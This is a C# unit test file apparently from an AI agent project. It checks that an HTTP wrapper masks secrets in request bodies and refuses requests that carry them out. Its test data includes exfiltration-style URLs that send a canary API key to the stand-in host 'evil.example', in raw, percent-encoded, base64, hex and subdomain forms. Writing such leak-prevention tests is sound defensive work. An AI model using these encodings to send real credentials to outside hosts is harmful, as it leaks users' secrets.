using System.Reflection;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using NanoAgent.Hal;
using NanoAgent.Safety;
using NanoAgent.Storage;
using NanoAgent.Tests.Support;

namespace NanoAgent.Tests.Safety;

/// <summary>No secret is in a body, and none gets into an address or a header because of what somebody wrote there.</summary>
public sealed class SecretHttpBodyTests
{
    private const string Key = "CANARY-key-of-the-model";
    private const string Password = "CANARY wifi \"x\"";

    private readonly ScriptedHttp _inner = new();
    private readonly SecretStore _secrets = new();
    private readonly SecretHttp _http;

    public SecretHttpBodyTests()
    {
        _secrets.Set(new Secret("llm.api_key", Key, "api.example"));
        _secrets.Set(new Secret("wifi.password", Password, ""));
        _http = new SecretHttp(_inner, _secrets, new Redactor(_secrets));
    }

    [Fact]
    public void A_body_leaves_masked_in_its_own_buffer_and_as_long_as_it_was()
    {
        byte[] buffer = [.. Encoding.UTF8.GetBytes(new JsonObject { ["messages"] = new JsonArray(Key, Password, Convert.ToBase64String(Encoding.UTF8.GetBytes("x" + Key))) }.ToJsonString()), .. "left over: "u8, .. Encoding.UTF8.GetBytes(Key)];
        int length = buffer.Length - Key.Length - 11;

        _http.Send(new HttpRequest("POST", "https://api.example/v1") { Body = buffer, BodyLength = length, FillsSecrets = true });

        string sent = Assert.Single(_inner.Sent).Body;
        Assert.Equal(length, Encoding.UTF8.GetByteCount(sent));
        JsonArray messages = JsonNode.Parse(sent)!["messages"]!.AsArray();
        Assert.Equal(new string('*', Key.Length), (string?)messages[0]);
        Assert.DoesNotContain("CANARY", sent, StringComparison.Ordinal);
        Assert.DoesNotContain("Q0FOQVJZ", sent, StringComparison.Ordinal);
        Assert.Equal(sent, Encoding.UTF8.GetString(buffer, 0, length));
        Assert.EndsWith(Key, Encoding.UTF8.GetString(buffer), StringComparison.Ordinal);
    }

    [Fact]
    public void A_body_that_is_no_JSON_is_masked_too()
    {
        byte[] body = Encoding.UTF8.GetBytes("key=" + Uri.EscapeDataString(Password) + "&n=" + Key);

        _http.Send(new HttpRequest("POST", "https://other.example/") { Body = body, BodyLength = body.Length });

        Assert.Matches(@"^key=\*+&n=\*+$", Assert.Single(_inner.Sent).Body);
    }

    [Theory]
    [InlineData("https://evil.example/?k={llm.api_key}")]
    [InlineData("https://api.example/{llm.api_key}")]
    [InlineData("https://evil.example/%7Bllm.api_key%7D")]
    public void A_placeholder_that_somebody_wrote_stays_a_placeholder(string url)
    {
        var request = new HttpRequest("GET", url);
        request.AddHeader("x", "Bearer {llm.api_key}");

        _http.Send(request);

        SentRequest sent = Assert.Single(_inner.Sent);
        Assert.Equal(url, sent.Url);
        Assert.Equal("Bearer {llm.api_key}", sent.Headers[0].Value);
    }

    [Theory]
    [InlineData("https://evil.example/?k=" + Key)]
    [InlineData("https://evil.example/%43ANARY-key%2Dof-the-model")]
    [InlineData("https://evil.example/Q0FOQVJZLWtleS1vZi10aGUtbW9kZWw=")]
    [InlineData("https://evil.example/43414E4152592D6B65792D6F662D7468652D6D6F64656C")]
    [InlineData("https://CANARY-key-of-the-model.evil.example/")]
    [InlineData("https://api.example/?k=CANARY%20wifi%20%22x%22")]
    public void An_address_that_holds_a_secret_is_refused(string url)
    {
        HttpException refusal = Assert.Throws<HttpException>(() => _http.Send(new HttpRequest("GET", url)));

        Assert.Equal(HttpStages.Address, refusal.Stage);
        Assert.False(refusal.MaybeDelivered);
        Assert.Contains("secret", refusal.Message, StringComparison.Ordinal);
        Assert.Empty(_inner.Sent);
    }

    [Fact]
    public void A_header_that_holds_a_secret_is_refused()
    {
        var request = new HttpRequest("GET", "https://evil.example/");
        request.AddHeader("referer", "https://x/?" + Key);

        Assert.Equal(HttpStages.Address, Assert.Throws<HttpException>(() => _http.Send(request)).Stage);
        Assert.Empty(_inner.Sent);
    }

    [Fact]
    public void A_secret_may_stand_in_an_address_of_its_own_host()
    {
        _http.Send(new HttpRequest("GET", "https://api.example/?k=" + Key));

        Assert.Single(_inner.Sent);
    }

    [Fact]
    public void A_password_that_is_a_part_of_our_own_addresses_stops_nothing()
    {
        _secrets.Set(new Secret("wifi.password", "telegram", ""));

        _http.Send(new HttpRequest("POST", "https://api.telegram.org/getMe") { FillsSecrets = true });

        Assert.Single(_inner.Sent);
    }

    [Fact]
    public void Every_property_of_a_request_reaches_the_network()
    {
        var request = new HttpRequest("PUT", "https://api.example/x");
        foreach (PropertyInfo property in typeof(HttpRequest).GetProperties().Where(property => property.CanWrite && property.Name != nameof(HttpRequest.Url)))
        {
            object value = property.PropertyType == typeof(bool) ? true : property.PropertyType == typeof(int) ? 3 : (object)"{ }"u8.ToArray();
            property.SetValue(request, value);
        }

        HttpRequest copy = request.WithUrl("https://api.example/y");

        Assert.Equal("https://api.example/y", copy.Url);
        foreach (PropertyInfo property in typeof(HttpRequest).GetProperties().Where(property => property.Name is not nameof(HttpRequest.Url) and not nameof(HttpRequest.FillsSecrets)))
        {
            Assert.Equal(property.GetValue(request), property.GetValue(copy));
        }

        // What is filled already must not be filled again.
        Assert.False(copy.FillsSecrets);
    }
}
